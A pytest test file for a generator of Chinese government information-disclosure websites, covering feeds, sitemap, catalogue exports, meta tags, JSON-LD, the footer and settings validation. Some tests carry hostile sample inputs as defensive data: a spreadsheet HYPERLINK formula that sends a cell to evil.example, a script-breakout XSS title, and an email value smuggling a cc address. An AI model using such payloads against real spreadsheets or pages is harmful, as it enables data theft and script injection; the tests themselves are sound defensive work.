"""What the site gives beyond its pages, read as their users read them: Atom feeds with a feed reader's
parser, the sitemap and the catalogue exports with standard parsers, the JSON-LD and government meta
tags in page heads, and the footer."""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest

from conftest import FIXTURES, PDF, PROJECT, Build, build_site, entry
from gongkai.core.schema import SchemaError, load_schema
from test_types import BUREAU, CATALOGUE, files, interpretation

BASE = "https://example.gov.cn/"
A = "000014349/2021-00001"
B = "000014349/2021-00002"
C = "000014350/2021-00003"


def catalogue(**site: object) -> str:
    """The fixture catalogue.yml with `site:` settings added."""
    text = (FIXTURES / "catalogue.yml").read_text(encoding="utf-8")
    extra = "".join(f"  {k}: {v}\n" for k, v in site.items())
    return text.replace("site:\n", f"site:\n{extra}", 1)


def three() -> dict[str, str | bytes]:
    """Three public entries in three categories, one withheld, one on request."""
    return {
        "content/xxgk/a.md": entry(A, title="关于规范户口迁移的通知", keywords="[户籍, 迁移]",
                                   doc_no="测公通〔2021〕1号", attachments="[{file: f/biao.pdf, title: 申请表}]"),
        "content/xxgk/f/biao.pdf": PDF,
        "content/xxgk/b.md": entry(B, title="其他文件一则", category="其他文件", date="2019-05-06"),
        "content/xxgk/c.md": entry(C, title="工作动态一则", category="工作动态", date="2020-01-02",
                                   publisher="测试市公安局交通警察支队"),
        "content/xxgk/d.md": entry("000014349/2021-00004", title="依申请公开的批复", disclosure="依申请公开",
                                   date="2022-01-01"),
    }


@pytest.fixture(scope="module")
def build(tmp_path_factory: pytest.TempPathFactory) -> Build:
    """three(), built once for the tests that only read it."""
    build = build_site(tmp_path_factory.mktemp("three"), three(), catalogue=catalogue(mark="党政机关网站"))
    assert build.ok, build.errors
    return build


@pytest.fixture(scope="module")
def typed(tmp_path_factory: pytest.TempPathFactory) -> Build:
    """A policy, a service guide and an interpretation with a summary, on the project's catalogue.yml."""
    content = files(**{"content/zcjd/jd.md": interpretation(summary="用图表说明新规的三处变化。")})
    build = build_site(tmp_path_factory.mktemp("typed"), content, catalogue=CATALOGUE)
    assert build.ok, build.errors
    return build


def url(index_no: str) -> str:
    return f"{BASE}xxgk/{index_no.replace('/', '-')}/"


class _Head(HTMLParser):
    """The meta tags, alternate links and JSON-LD of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.meta: dict[str, str] = {}
        self.feeds: list[tuple[str, str]] = []
        self.json_ld: list[str] = []
        self._in_ld = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "meta" and a.get("name", "")[:1].isupper():
            self.meta[a["name"]] = a["content"]
        if tag == "link" and a.get("type") == "application/atom+xml":
            self.feeds.append((a["title"], a["href"]))
        self._in_ld = tag == "script" and a.get("type") == "application/ld+json"

    def handle_endtag(self, tag: str) -> None:
        self._in_ld = False

    def handle_data(self, data: str) -> None:
        if self._in_ld:
            self.json_ld.append(data)


def head(html: str) -> _Head:
    parser = _Head()
    parser.feed(html)
    return parser


# Feeds


def test_feed_of_the_whole_catalogue_reads_in_a_feed_reader(build):
    feed = feedparser.parse((build.site / "feeds/all.xml").read_bytes())
    assert not feed.bozo, feed.bozo_exception
    assert feed.version == "atom10"
    assert feed.feed.id == f"{BASE}feeds/all.xml"
    assert feed.feed.title == "最新公开信息 - 测试站点"
    assert feed.feed.updated == "2021-03-15T00:00:00+08:00"  # the newest entry's date, not the build's
    assert feed.feed.author == "测试市公安局"
    assert {(link.rel, link.href) for link in feed.feed.links} == {("self", f"{BASE}feeds/all.xml"),
                                                                  ("alternate", f"{BASE}mulu/")}
    assert [e.id for e in feed.entries] == [url(A), url(C), url(B)]  # newest first; nothing withheld
    first = feed.entries[0]
    assert first.title == "关于规范户口迁移的通知"
    assert first.link == url(A)
    assert first.published == first.updated == "2021-03-15T00:00:00+08:00"
    assert first.author == "测试市公安局"
    assert [(t.term, t.label) for t in first.tags] == [("0202", "规范性文件"), ("有效", "有效")]
    assert first.tags[1].scheme == f"{BASE}catalogue.json#validity"
    assert feed.entries[1].author == "测试市公安局交通警察支队"


def test_a_feed_reads_as_a_chinese_page_in_a_browser_and_names_each_status(build):
    """The feed's stylesheet (CSS: XSLT is leaving the browsers) shows its XHTML: what the page is, and
    each entry's title as a link, its facts and its 有效性 label."""
    xml = (build.site / "feeds/fenlei/0202.xml").read_text(encoding="utf-8")
    assert xml.startswith("<?xml version='1.0' encoding='utf-8'?>\n"
                          '<?xml-stylesheet type="text/css" href="../../assets/stylesheets/gk-feed.css"?>\n')
    assert (build.site / "feeds/fenlei/../../assets/stylesheets/gk-feed.css").is_file()
    feed = feedparser.parse(xml.encode())
    assert not feed.bozo and feed.feed.language == "zh-CN"
    assert "的订阅源（Atom 格式）" in feed.feed.subtitle and f'<a href="{BASE}mulu/fenlei/0202/">返回主题分类：规范性文件</a>' in feed.feed.subtitle
    content = feed.entries[0].content[0]
    assert content.type == "application/xhtml+xml"
    assert f'<a href="{url(A)}">关于规范户口迁移的通知</a>' in content.value
    assert "发布日期：2021-03-15 · 发布机构：测试市公安局 · 文号：" in content.value


def test_feeds_label_documents_no_longer_in_force(site):
    build = site({"content/xxgk/a.md": entry("000014349/2021-00001", title="旧规定", validity="废止",
                                             superseded_by="000014349/2021-00002"),
                  "content/xxgk/b.md": entry("000014349/2021-00002", title="新规定", date="2021-04-01")})
    assert build.ok, build.errors
    old = feedparser.parse((build.site / "feeds/all.xml").read_bytes()).entries[1]
    assert old.title == "旧规定" and ("废止", "废止") in [(t.term, t.label) for t in old.tags]
    assert '<span class="gk-status gk-status--feizhi">废止</span>' in old.content[0].value


def test_category_feeds_follow_the_directory(build):
    parent = feedparser.parse((build.site / "feeds/fenlei/02.xml").read_bytes())
    assert parent.feed.title == "主题分类：法规文件 - 测试站点"
    assert [e.id for e in parent.entries] == [url(A), url(B)]  # its sub-categories included
    assert {link.href for link in parent.feed.links} == {f"{BASE}feeds/fenlei/02.xml", f"{BASE}mulu/fenlei/02/"}
    child = feedparser.parse((build.site / "feeds/fenlei/0203.xml").read_bytes())
    assert [e.id for e in child.entries] == [url(B)]
    assert child.feed.updated == "2019-05-06T00:00:00+08:00"


def test_an_empty_category_has_a_valid_feed_dated_by_the_catalogue(site):
    build = site({"content/xxgk/a.md": entry(date="2021-03-15")})
    empty = feedparser.parse((build.site / "feeds/fenlei/04.xml").read_bytes())
    assert not empty.bozo and empty.entries == []
    assert empty.feed.updated == "2021-03-15T00:00:00+08:00"


def test_feed_size_keeps_the_newest(site):
    build = site(three(), catalogue=catalogue(feed_size=2))
    feed = feedparser.parse((build.site / "feeds/all.xml").read_bytes())
    assert [e.id for e in feed.entries] == [url(A), url(C)]


def test_summary_goes_into_the_feed(typed):
    feed = feedparser.parse((typed.site / "feeds/all.xml").read_bytes())
    assert [e.title for e in feed.entries] == ["户口迁入登记", "图解户口迁移新规", "示例市公安局关于户口迁移的规定"]
    assert feed.entries[1].summary == "用图表说明新规的三处变化。"
    assert "<p>用图表说明新规的三处变化。</p>" in feed.entries[1].content[0].value
    xml = (typed.site / "feeds/all.xml").read_text(encoding="utf-8")
    assert xml.count("<summary>") == 1  # the guide has none (feedparser then shows its content)


def test_home_and_directory_pages_link_their_feeds(build):
    assert head(build.html("index.html")).feeds == [("最新公开信息 - 测试站点", "feeds/all.xml")]
    category = head(build.html("mulu/fenlei/0202/index.html")).feeds
    assert category == [("主题分类：规范性文件 - 测试站点", "../../../feeds/fenlei/0202.xml"),
                        ("最新公开信息 - 测试站点", "../../../feeds/all.xml")]
    assert head(build.html("mulu/nian/2021/index.html")).feeds == [("最新公开信息 - 测试站点", "../../../feeds/all.xml")]
    assert head(build.html(f"xxgk/{A.replace('/', '-')}/index.html")).feeds == []
    page = build.html("mulu/fenlei/0202/index.html")
    assert '· <a href="../../../feeds/fenlei/0202.xml" type="application/atom+xml">订阅本栏目更新</a>' in page
    assert '<link rel="alternate feed" type="application/atom+xml"' in page  # not Material's language versions
    for _, href in category:
        assert (build.site / "mulu/fenlei/0202" / href).resolve().is_file()


# Sitemap


def test_sitemap_lastmod_is_each_page_content_date(build):
    ns = {"s": "http://www.sitemaps.org/schemas/sitemap/0.9"}
    root = ET.fromstring((build.site / "sitemap.xml").read_bytes())
    lastmod = {u.findtext("s:loc", namespaces=ns): u.findtext("s:lastmod", namespaces=ns)
               for u in root.findall("s:url", ns)}
    assert lastmod[url(A)] == "2021-03-15"
    assert lastmod[url(B)] == "2019-05-06"
    assert lastmod[url(C)] == "2020-01-02"
    assert lastmod[f"{BASE}mulu/fenlei/0203/"] == "2019-05-06"  # the newest entry it lists
    assert lastmod[f"{BASE}mulu/"] == "2021-03-15"
    assert lastmod[BASE] == "2021-03-15"  # a page without a date of its own: the newest entry's
    assert not [loc for loc in lastmod if "2021-00004" in loc]


# Exports


def test_catalogue_json_holds_every_public_entry_with_labels(build):
    data = json.loads((build.site / "catalogue.json").read_text(encoding="utf-8"))
    assert data["site"] == "测试站点" and data["url"] == BASE
    assert data["updated"] == "2021-03-15" and data["count"] == 3
    assert data["types"]["entry"]["label"] == "目录条目"
    assert data["types"]["entry"]["fields"]["index_no"] == "索引号"
    assert "previous_urls" not in data["types"]["entry"]["fields"]  # display: none
    assert "withdrawn" not in data["types"]["entry"]["fields"]
    assert [e["index_no"] for e in data["entries"]] == [A, C, B]
    assert data["entries"][0] == {
        "type": "entry", "url": url(A), "title": "关于规范户口迁移的通知", "index_no": A, "category": "规范性文件",
        "publisher": "测试市公安局", "doc_no": "测公通〔2021〕1号", "date": "2021-03-15", "disclosure": "主动公开",
        "validity": "有效", "keywords": ["户籍", "迁移"],
        "attachments": [{"title": "申请表", "url": f"{url(A)}biao.pdf"}],
    }
    assert (build.site / f"xxgk/{A.replace('/', '-')}/biao.pdf").is_file()


def test_catalogue_csv_opens_in_a_spreadsheet(build):
    data = (build.site / "catalogue.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["类型", "标题", "索引号", "主题分类", "发布机构", "文号", "发布日期", "公开属性", "有效性", "替代文件",
                       "主题词", "网址"]
    assert rows[1] == ["目录条目", "关于规范户口迁移的通知", A, "规范性文件", "测试市公安局", "测公通〔2021〕1号", "2021-03-15",
                       "主动公开", "有效", "", "户籍、迁移", url(A)]
    assert [r[2] for r in rows[1:]] == [A, C, B]
    assert b"\r\n" in data


def test_a_title_written_as_a_formula_stays_text_in_a_spreadsheet(site):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
    build = site({"content/xxgk/a.md": entry(title=json.dumps(formula, ensure_ascii=False))})
    assert build.ok, build.errors
    rows = list(csv.reader(io.StringIO((build.site / "catalogue.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1][1] == "'" + formula  # the apostrophe makes Excel and WPS show it as text


def test_export_columns_name_every_type_label(typed):
    rows = list(csv.reader(io.StringIO((typed.site / "catalogue.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0][:5] == ["类型", "标题/事项名称", "索引号", "主题分类", "发布机构/实施主体"]
    assert "申请材料" not in rows[0]  # lists of items are in catalogue.json
    guide = json.loads((typed.site / "catalogue.json").read_text(encoding="utf-8"))["entries"][0]
    assert guide["type"] == "guide" and guide["audience"] == ["个人"] and guide["visits"] == 1
    assert guide["materials"][0] == {"name": "户口迁入申请表", "form": "原件", "copies": 1,
                                     "blank": {"title": "户口迁入申请表（空白）",
                                               "url": f"{BASE}bszn/{BUREAU}-2024-00002/biao.pdf"}}


def test_content_files_cannot_take_the_outputs_names(site):
    build = site({"content/xxgk/a.md": entry(), "content/catalogue.json": "{}", "content/feeds/all.xml.txt": "x"})
    assert not build.ok
    message = ("网站会在这个位置自动生成catalogue.json、catalogue.csv（公开目录数据）或 feeds/ 目录中的订阅源，"
               "这个文件会被覆盖。请把它改名或移到其他目录。")
    assert f"content/catalogue.json：{message}" in build.errors
    assert f"content/feeds/all.xml.txt：{message}" in build.errors


# Page heads


def test_entry_page_carries_every_government_meta_tag(build):
    page = build.html(f"xxgk/{A.replace('/', '-')}/index.html")
    assert head(page).meta == {
        "SiteName": "测试站点", "SiteDomain": "example.gov.cn", "SiteIDCode": "9900000001",
        "ColumnName": "规范性文件", "ColumnType": "信息发布", "ArticleTitle": "关于规范户口迁移的通知",
        "PubDate": "2021-03-15", "ContentSource": "测试市公安局", "Keywords": "户籍,迁移",
        "Description": "关于规范户口迁移的通知", "Url": url(A),
    }
    assert '<meta name="description" content="关于规范户口迁移的通知">' in page


def test_source_and_summary_feed_content_source_and_description(site):
    schema = (FIXTURES / "catalogue.yml").read_text(encoding="utf-8").replace(
        "      - {key: keywords, label: 主题词, type: list, words: true}\n",
        "      - {key: keywords, label: 主题词, type: list, words: true}\n      - {key: summary, label: 内容概述, type: text}\n"
        "      - {key: source, label: 信息来源, type: text}\n")
    build = site({"content/xxgk/a.md": entry(summary="放宽落户条件。", source="测试市公安局治安管理支队")}, catalogue=schema)
    assert build.ok, build.errors
    meta = head(build.html("xxgk/000014349-2021-00001/index.html")).meta
    assert meta["ContentSource"] == "测试市公安局治安管理支队"
    assert meta["Description"] == "放宽落户条件。"


def test_other_pages_carry_the_site_and_column_tags(build):
    site_tags = {"SiteName": "测试站点", "SiteDomain": "example.gov.cn", "SiteIDCode": "9900000001"}
    assert head(build.html("index.html")).meta == {**site_tags, "Url": BASE}
    assert head(build.html("mulu/fenlei/0202/index.html")).meta == {
        **site_tags, "ColumnName": "规范性文件", "ColumnType": "信息发布", "Url": f"{BASE}mulu/fenlei/0202/"}
    assert head(build.html("mulu/nian/2021/index.html")).meta["ColumnName"] == "2021 年发布的信息"
    assert head(build.html("yishenqing/index.html")).meta == {
        **site_tags, "ColumnName": "依申请公开指南", "ColumnType": "信息发布", "Url": f"{BASE}yishenqing/"}
    assert head(build.html("404.html")).meta == site_tags


def test_content_types_give_their_column_type(typed):
    guide = head(typed.html(f"bszn/{BUREAU}-2024-00002/index.html")).meta
    assert (guide["ColumnName"], guide["ColumnType"]) == ("户籍管理", "办事服务")
    assert head(typed.html(f"zcjd/{BUREAU}-2024-00003/index.html")).meta["ColumnType"] == "解读回应"
    assert head(typed.html("bszn/index.html")).meta["ColumnName"] == "办事指南"
    assert head(typed.html("bszn/topic/户籍/index.html")).meta["ColumnType"] == "办事服务"


def test_json_ld_describes_documents_and_services(typed):
    policy = json.loads(head(typed.html(f"xxgk/{BUREAU}-2024-00001/index.html")).json_ld[0])
    assert policy == {
        "@context": "https://schema.org", "@type": "DigitalDocument", "name": "示例市公安局关于户口迁移的规定",
        "identifier": [{"@type": "PropertyValue", "propertyID": "索引号", "value": f"{BUREAU}/2024-00001"}],
        "inLanguage": "zh-CN", "datePublished": "2024-03-01",
        "publisher": {"@type": "GovernmentOrganization", "name": "示例市公安局"},
        "genre": "规范性文件", "creativeWorkStatus": "有效", "url": f"{BASE}xxgk/{BUREAU}-2024-00001/",
    }
    guide = json.loads(head(typed.html(f"bszn/{BUREAU}-2024-00002/index.html")).json_ld[0])
    assert guide["@type"] == "GovernmentService"
    assert guide["identifier"][1] == {"@type": "PropertyValue", "propertyID": "事项编码", "value": "SL-HJ-001"}
    assert guide["serviceType"] == "行政确认"
    assert guide["provider"] == {"@type": "GovernmentOrganization", "name": "示例市公安局"}
    assert guide["audience"] == [{"@type": "Audience", "audienceType": "个人"}]
    assert guide["availableChannel"] == {
        "@type": "ServiceChannel", "serviceUrl": "https://zwfw.example.gov.cn/hj/",
        "servicePhone": {"@type": "ContactPoint", "telephone": "0000-12345601"},
        "serviceLocation": {"@type": "Place", "name": "示例市政务服务中心公安窗口"}}
    interpretation = json.loads(head(typed.html(f"zcjd/{BUREAU}-2024-00003/index.html")).json_ld[0])
    assert interpretation["@type"] == "DigitalDocument" and interpretation["genre"] == "政策解读"


@pytest.mark.parametrize("title", ["关于</script><script>alert(1)</script>的通知", "甲</SCRIPT >乙<!--丙&丁"])
def test_json_ld_cannot_close_its_script_element(site, title):
    build = site({"content/xxgk/a.md": entry(title=json.dumps(title, ensure_ascii=False))})
    assert build.ok, build.errors
    page = build.html("xxgk/000014349-2021-00001/index.html")
    script = re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL | re.IGNORECASE)
    assert script is not None
    assert "<" not in script.group(1) and ">" not in script.group(1)
    assert json.loads(script.group(1))["name"] == title
    assert head(page).meta["ArticleTitle"] == title


# Footer


def footer_text(html: str) -> str:
    footer = html[html.index('<footer class="md-footer">'):html.index("</footer>")]
    inline = re.sub(r"</?a\b[^>]*>", "", footer)
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", inline)).strip()


def test_footer_shows_the_sites_registration_on_every_page(build):
    for page in ("index.html", "mulu/index.html", f"xxgk/{A.replace('/', '-')}/index.html", "404.html"):
        assert footer_text(build.html(page)) == (
            "网站地图 联系我们 主办单位：测试市公安局 地址：测试市人民路 1 号 联系电话：0000-12345678 "
            "网站标识码：9900000001 ICP备案号：测ICP备00000001号 公安机关备案号：测公网安备 99000002000001号"), page
    html = build.html("index.html")
    assert '<img src="assets/images/gk-mark.svg" alt="党政机关网站" width="96" height="48">' in html
    assert '<img src="assets/images/gk-police.svg" alt="" class="gk-footer__icon"' in html
    assert '<a href="./wzdt/">网站地图</a>' in html and '<a href="./lxwm/">联系我们</a>' in html
    assert "我为政府网站找错" not in html  # off unless catalogue.yml gives its address
    assert '<a href="https://beian.miit.gov.cn/">测ICP备00000001号</a>' in html
    assert '<a href="tel:0000-12345678">0000-12345678</a>' in html  # a phone dials it
    assert '<a href="https://beian.mps.gov.cn/#/query/webSearch?code=99000002000001">测公网安备 99000002000001号</a>' in html


def test_footer_leaves_out_what_is_not_configured(site):
    schema = (FIXTURES / "catalogue.yml").read_text(encoding="utf-8")
    schema = re.sub(r"site:\n(  .*\n)+", "site:\n  sponsor: 测试市公安局\n", schema)
    build = site({"content/xxgk/a.md": entry()}, catalogue=schema, mkdocs_extra="copyright: 版权所有 测试市公安局\n")
    assert build.ok, build.errors
    assert footer_text(build.html("index.html")) == "网站地图 联系我们 主办单位：测试市公安局 版权所有 测试市公安局"
    assert "gk-mark.svg" not in build.html("index.html") and "gk-police.svg" not in build.html("index.html")
    assert "SiteIDCode" not in head(build.html("index.html")).meta


def test_the_bureaus_own_images_and_the_report_entry_come_from_catalogue_yml(site):
    settings = {"mark": "党政机关网站", "mark_image": "files/biaoshi.png", "mark_url": "https://bszs.conac.cn/sitename?method=show&id=1",
                "police_icon": "files/gaba.gif", "report_url": "https://zfwzzc.www.gov.cn/check_web/errorInfo/jcInfoNew?site=1"}
    images = {"content/files/biaoshi.png": b"\x89PNG\r\n\x1a\n", "content/files/gaba.gif": b"GIF89a"}
    build = site({"content/xxgk/a.md": entry(), **images}, catalogue=catalogue(**settings))
    assert build.ok, build.errors
    page = build.html("mulu/index.html")
    assert ('<a href="https://bszs.conac.cn/sitename?method=show&amp;id=1"><img src="../files/biaoshi.png" '
            'alt="党政机关网站" width="96" height="48"></a>') in page
    assert '<img src="../files/gaba.gif" alt="" class="gk-footer__icon"' in page
    assert '<li><a href="https://zfwzzc.www.gov.cn/check_web/errorInfo/jcInfoNew?site=1">我为政府网站找错</a></li>' in page
    missing = site({"content/xxgk/a.md": entry()}, catalogue=catalogue(mark_image="files/biaoshi.png"))
    assert not missing.ok and ("catalogue.yml 第 3 行：site.mark_image（党政机关网站标识图片）「files/biaoshi.png」在 content/ 中"
                               "没有这个文件。请把图片放到 content/files/biaoshi.png，或改正路径") in missing.errors
    assert "链接检查" not in missing.errors  # told once, at its line, before anything is built


def test_personal_data_in_the_footer_is_refused(site):
    build = site({"content/xxgk/a.md": entry()}, catalogue=catalogue().replace('"0000-12345678"', '"13812345678"'))
    assert not build.ok
    assert ("  - catalogue.yml 第 6 行：发现疑似手机号码「138******78」。公开内容不得含有公民个人信息：请删除。如这是应当公开的号码"
            "（如服务电话），请把它加入 catalogue.yml 的 gate.allow_numbers。") in build.errors


def test_personal_data_in_category_and_publisher_names_is_refused_at_its_line(site):
    schema = catalogue().replace("name: 规范性文件", "name: 规范性文件13812345678").replace(
        "name: 测试市公安局交通警察支队", "name: 交警支队 110101 19900307 4514")
    build = site({"content/xxgk/a.md": entry(category="规范性文件13812345678")}, catalogue=schema)
    assert not build.ok
    assert "catalogue.yml 第 " in build.errors and "发现疑似手机号码「138******78」" in build.errors
    assert "发现疑似居民身份证号码「110*************14」" in build.errors
    assert "13812345678" not in build.errors and "19900307" not in build.errors
    assert "13812345678" not in (build.root / "build-report.json").read_text(encoding="utf-8")



# catalogue.yml → site, column_type


def schema_problems(tmp_path: Path, text: str) -> list[str]:
    path = tmp_path / "catalogue.yml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(SchemaError) as raised:
        load_schema(path, "catalogue.yml")
    return [p.message for p in raised.value.problems]


SITE_ERRORS = {
    "unknown key": ("icp_no: 京ICP备1号", "site 中有未知设置：icp_no；可用：page_size（每页条数）、feed_size（订阅源条数）、"
                    "sponsor（主办单位）、address（地址）、phone（联系电话）、id_code（网站标识码）、icp（ICP备案号）、"
                    "police_record（公安机关备案号）、mark（党政机关网站标识）、postcode（邮政编码）、email（电子邮箱）、"
                    "hours（办公时间）、mark_url（党政机关网站标识的链接）、mark_image（党政机关网站标识图片）、"
                    "police_icon（公安机关备案图标）、report_url（“我为政府网站找错”的链接）。"),
    "image outside content": ("mark_image: ../mark.png", "site.mark_image（党政机关网站标识图片）「../mark.png」应为 content/ 中"
                              "一个图片文件的路径（PNG、GIF、JPG 或 WEBP），如 files/biaoshi.png，不要以 / 开头，不要含 ..。"),
    "report address": ("report_url: zfwzzc.www.gov.cn", "site.report_url（“我为政府网站找错”的链接）「zfwzzc.www.gov.cn」"
                       "应为以 https:// 或 http:// 开头的完整网址。"),
    "postcode": ("postcode: \"10000\"", "site.postcode（邮政编码）「10000」应为 6 位数字。"),
    "number without quotes": ("id_code: 1199000001", "site.id_code（网站标识码）应为文字，请用英文双引号括起，如 "
                              "id_code: \"1199000001\"。"),
    "short id code": ("id_code: \"12345\"", "site.id_code（网站标识码）「12345」应为 10 位数字（国务院部门网站为 bm 加 8 位数字），"
                      "即全国政府网站基本数据库分配给本网站的标识码。"),
    "icp": ("icp: ICP12345", "site.icp（ICP备案号）「ICP12345」格式应如 京ICP备12345678号 或 京ICP备12345678号-1。"),
    "police record": ("police_record: 京公网安备 1101号", "site.police_record（公安机关备案号）「京公网安备 1101号」格式应如 "
                      "京公网安备 11010502030143号（14 位数字）。"),
    "feed size": ("feed_size: 0", "site.feed_size（订阅源条数）应为 1 到 500 之间的整数，现为「0」。"),
    "e-mail with parameters": ("email: \"gk@example.gov.cn?cc=x@evil.example\"", "site.email（电子邮箱）「gk@example.gov.cn?cc="
                               "x@evil.example」格式应如 gongkai@example.gov.cn（只含字母、数字和 . _ + -）。"),
    "empty text": ("sponsor: \"\"", "site.sponsor（主办单位）应为文字，请用英文双引号括起，如 sponsor: \"示例市公安局\"。"),
}


@pytest.mark.parametrize("case", SITE_ERRORS, ids=list(SITE_ERRORS))
def test_site_settings_are_checked(tmp_path, case):
    line, message = SITE_ERRORS[case]
    text = re.sub(r"site:\n(  .*\n)+", f"site:\n  page_size: 5\n  {line}\n", (FIXTURES / "catalogue.yml").read_text("utf-8"))
    assert schema_problems(tmp_path, text) == [message]


def test_column_type_is_checked(tmp_path):
    text = (FIXTURES / "catalogue.yml").read_text("utf-8").replace("    folder: xxgk\n", "    folder: xxgk\n    column_type: 新闻\n")
    assert schema_problems(tmp_path, text) == ["types.entry.column_type（栏目类型）「新闻」不可用；可用：信息发布、解读回应、办事服务、互动交流。"]


def test_content_type_keys_survive_their_browse_settings():
    schema = load_schema(PROJECT / "catalogue.yml", "catalogue.yml")
    assert {key: t.key for key, t in schema.types.items()} == {
        "entry": "entry", "guide": "guide", "interpretation": "interpretation", "report": "report"}
